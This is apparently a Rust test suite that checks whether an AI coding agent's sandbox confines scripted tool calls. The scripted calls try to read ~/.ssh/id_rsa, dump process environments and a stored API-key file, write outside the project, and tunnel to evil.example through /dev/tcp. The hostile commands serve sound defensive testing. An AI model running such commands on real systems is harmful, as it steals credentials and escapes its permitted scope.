//! An agent in a sandbox talks to its service under the service's own name, and reaches no more.

use std::sync::Arc;

use amp_session::protocol::{ContentBlock, Event};
use amp_session::{Amp, Error, Outcome, SandboxConfig, SessionConfig, default_deadlines};
use anyhow::{Context, Result};
use fixtures::backend::{Backend, Entry, Options};
use fixtures::script::{Answer, Block, Script};

use serde_json::json;

use super::Case;
use super::place::{LIMIT, Place};
use super::tls::Terminator;
use crate::installed_cli::InstalledCli;
use crate::versions::Packaging;

/// What a tool tries: the project, a key, a file outside, a service.
const COMMAND: &str = "echo ran > inside; cat ~/.ssh/id_rsa; echo ran > ../trace; \
                       exec 3<>/dev/tcp/127.0.0.1/3128; \
                       printf 'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -n 1 <&3";

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "sandbox: a tool call, the service under its name".to_owned(),
            expected: Box::new(|packaging| {
                // The loop of the JavaScript build is its own; it has no use for a WebSocket.
                let by = match packaging {
                    Packaging::Javascript => "without a WebSocket",
                    Packaging::Native => "by WebSocket",
                };
                format!(
                    "completed; {by}; inside written, outside not; told: \
                     connect evil.example:443, read ~/.ssh/id_rsa"
                )
            }),
            attempt: Box::new(|cli| Box::pin(under_its_name(cli))),
        },
        Case {
            name: "sandbox: another service".to_owned(),
            expected: Box::new(|_| {
                "the sandbox does not allow the service https://other.example/".to_owned()
            }),
            attempt: Box::new(|cli| Box::pin(another_service(cli))),
        },
        Case {
            name: "sandbox: who sees the key".to_owned(),
            // The file holds the key of another service, which this run has no use for.
            expected: Box::new(|_| {
                "completed; key of the run: nobody; stored key: nobody".to_owned()
            }),
            attempt: Box::new(|cli| Box::pin(who_sees_the_key(cli))),
        },
    ]
}

/// The key of a run, and one that Amp has stored.
const KEYS: [&str; 2] = ["key-of-the-run-5928a90d", "key-in-the-file-d53b488f"];

/// Looks for keys wherever a tool can: each look is a tool call.
async fn who_sees_the_key(cli: InstalledCli) -> Result<String> {
    let place = Place::create(&cli).await?;
    let secrets = place.path("home/.local/share/amp/secrets.json");
    let stored = json!({"apiKey@https://other.example/": KEYS[1]}).to_string();
    place.write("home/.local/share/amp/secrets.json", stored)?;
    let read = |path: String| Block::Tool {
        name: "Read".to_owned(),
        input: json!({"path": path}),
    };
    let shell = |command: &str| Block::Shell(command.to_owned());
    let looks = [
        ("variable", shell("env")),
        (
            "processes",
            shell("cat /proc/[0-9]*/environ | tr '\\0' '\\n'"),
        ),
        ("file", shell("cat ~/.local/share/amp/secrets.json")),
        ("own environment", read("/proc/self/environ".to_owned())),
        ("reader", read(secrets.display().to_string())),
    ];
    let mut answers: Vec<Answer> = looks
        .iter()
        .map(|(_, block)| Answer {
            blocks: vec![block.clone()],
            ..Answer::default()
        })
        .collect();
    answers.push(Answer {
        blocks: vec![Block::Text("It is done.".to_owned())],
        ..Answer::default()
    });
    let script = Script {
        answers,
        ..Script::default()
    };
    let options = Options::for_workspace(place.path("project")).with_script("try", script);
    let backend = Backend::start(options).await?;
    let mut sandbox = SandboxConfig::new();
    let service = backend.url();
    let service = service.trim_start_matches("http://").trim_end_matches('/');
    sandbox.hosts = vec![service.parse()?];
    let mut environment = place.environment();
    environment.insert("AMP_URL".into(), backend.url().into());
    environment.insert("AMP_API_KEY".into(), KEYS[0].into());
    let config = unasked(&place, sandbox);
    let amp = Amp::new(&cli.executable, cli.version.as_str()).with_environment(environment);
    let mut turn = amp.start(config)?.prompt("SCN:try").await?;
    let mut seen = KEYS.map(|_| Vec::new());
    let mut names = looks.iter().map(|(name, _)| *name);
    while let Some(line) = turn.next_line().await {
        let Some(Event::User(user)) = line.decoded().event() else {
            continue;
        };
        for block in &user.message.content {
            let ContentBlock::ToolResult(result) = block else {
                continue;
            };
            let name = names.next().context("a call has one result")?;
            let text = result.text().unwrap_or_default();
            for (seen, key) in seen.iter_mut().zip(KEYS) {
                if text.contains(key) {
                    seen.push(name);
                }
            }
        }
    }
    anyhow::ensure!(names.next().is_none(), "a call has no result");
    let outcome = turn.finish().await;
    let [of_run, stored] = seen.map(|names| match names.is_empty() {
        true => "nobody".to_owned(),
        false => names.join(", "),
    });
    let status = outcome.status;
    Ok(format!(
        "{status}; key of the run: {of_run}; stored key: {stored}"
    ))
}

async fn under_its_name(cli: InstalledCli) -> Result<String> {
    let place = Place::create(&cli).await?;
    place.write("home/.ssh/id_rsa", "a secret")?;
    let answer = |blocks| Answer {
        blocks,
        ..Answer::default()
    };
    let script = Script {
        answers: vec![
            answer(vec![Block::Shell(COMMAND.to_owned())]),
            answer(vec![Block::Text("It is done.".to_owned())]),
        ],
        ..Script::default()
    };
    let options = Options::for_workspace(place.path("project")).with_script("try", script);
    let backend = Arc::new(Backend::start(options).await?);
    let service = backend.url();
    let service = service.trim_start_matches("http://").trim_end_matches('/');
    let terminator = Terminator::start("ampcode.com", service.parse()?).await?;
    place.write("ca.pem", terminator.authority())?;

    let mut sandbox = SandboxConfig::new();
    let rule = format!("ampcode.com={}", terminator.address());
    sandbox.hosts = vec![rule.parse()?];
    let mut environment = place.environment();
    environment.insert("AMP_URL".into(), "https://ampcode.com/".into());
    environment.insert("NODE_EXTRA_CA_CERTS".into(), place.path("ca.pem").into());
    let outcome = run(&place, &cli, environment, sandbox, "SCN:try").await??;

    if !outcome.is_success() {
        // What went wrong tells more than what did not come of it.
        return Ok(format!(
            "{}: {} {:?}",
            outcome.status, outcome.stderr, outcome.sandbox
        ));
    }
    let by = match spoke_by_web_socket(&backend) {
        true => "by WebSocket",
        false => "without a WebSocket",
    };
    let written = |path: &str| match place.path(path).exists() {
        true => "written",
        false => "not",
    };
    let report = outcome.sandbox.context("a run in a sandbox has a report")?;
    let home = place.path("home").canonicalize()?.display().to_string();
    let told: Vec<String> = report
        .denied
        .iter()
        .map(|denial| {
            let target = denial.target.replace(&home, "~");
            format!("{} {target}", denial.kind.as_str())
        })
        .collect();
    Ok(format!(
        "{}; {by}; inside {}, outside {}; told: {}",
        outcome.status,
        written("project/inside"),
        written("trace"),
        told.join(", ")
    ))
}

async fn another_service(cli: InstalledCli) -> Result<String> {
    let place = Place::create(&cli).await?;
    let mut environment = place.environment();
    environment.insert("AMP_URL".into(), "https://other.example/".into());
    let outcome = run(&place, &cli, environment, SandboxConfig::new(), "hello").await?;
    Ok(match outcome {
        Ok(outcome) => outcome.status.to_string(),
        Err(error) => error.to_string(),
    })
}

/// A turn that nobody is asked about, in a sandbox.
fn unasked(place: &Place, sandbox: SandboxConfig) -> SessionConfig {
    let mut config = SessionConfig::new()
        .with_working_directory(place.path("project"))
        .with_deadlines(default_deadlines().with_total(Some(LIMIT)))
        .with_sandbox(sandbox);
    config.dangerously_allow_all = true;
    config
}

async fn run(
    place: &Place,
    cli: &InstalledCli,
    environment: amp_session::Environment,
    sandbox: SandboxConfig,
    prompt: &str,
) -> Result<Result<Outcome, Error>> {
    let config = unasked(place, sandbox);
    let amp = Amp::new(&cli.executable, cli.version.as_str()).with_environment(environment);
    let begun = async { amp.start(config)?.prompt(prompt).await };
    Ok(match begun.await {
        Ok(turn) => Ok(turn.finish().await),
        Err(error) => Err(error),
    })
}

fn spoke_by_web_socket(backend: &Backend) -> bool {
    backend.journal().iter().any(|entry| match entry {
        Entry::Request { path, .. } => path.contains("websocket") || path.contains("/ws"),
        _ => false,
    })
}
